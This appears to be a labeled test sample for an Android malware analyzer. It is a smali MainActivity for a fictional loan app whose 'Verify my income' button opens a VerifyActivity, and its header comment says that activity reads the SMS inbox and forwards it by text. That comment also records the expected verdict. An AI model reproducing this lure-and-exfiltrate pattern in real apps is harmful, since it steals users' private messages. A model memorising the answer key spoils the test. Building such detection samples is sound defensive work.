# Sample "sms": reads the inbox and sends it on by SMS.
#
# A click in this activity opens VerifyActivity; that one reads content://sms/inbox,
# named by a string, and sends the text to a number.
#
# Verdict on SMS: uploads; an SMS leaves the phone like a request does. Contacts
# and call log: none. Trigger: user, for only a click leads to VerifyActivity.
.class public final Lorg/example/loan/sms/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

.implements Landroid/view/View$OnClickListener;


.method public constructor <init>()V
    .registers 1

    .line 9
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


.method public onClick(Landroid/view/View;)V
    .registers 4

    .line 22
    new-instance p1, Landroid/content/Intent;

    const-class v0, Lorg/example/loan/sms/VerifyActivity;

    invoke-direct {p1, p0, v0}, Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V

    invoke-virtual {p0, p1}, Lorg/example/loan/sms/MainActivity;->startActivity(Landroid/content/Intent;)V

    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 3

    .line 13
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    .line 14
    new-instance p1, Landroid/widget/Button;

    invoke-direct {p1, p0}, Landroid/widget/Button;-><init>(Landroid/content/Context;)V

    const-string v0, "Verify my income"

    .line 15
    invoke-virtual {p1, v0}, Landroid/widget/Button;->setText(Ljava/lang/CharSequence;)V

    .line 16
    invoke-virtual {p1, p0}, Landroid/widget/Button;->setOnClickListener(Landroid/view/View$OnClickListener;)V

    .line 17
    invoke-virtual {p0, p1}, Lorg/example/loan/sms/MainActivity;->setContentView(Landroid/view/View;)V

    return-void
.end method
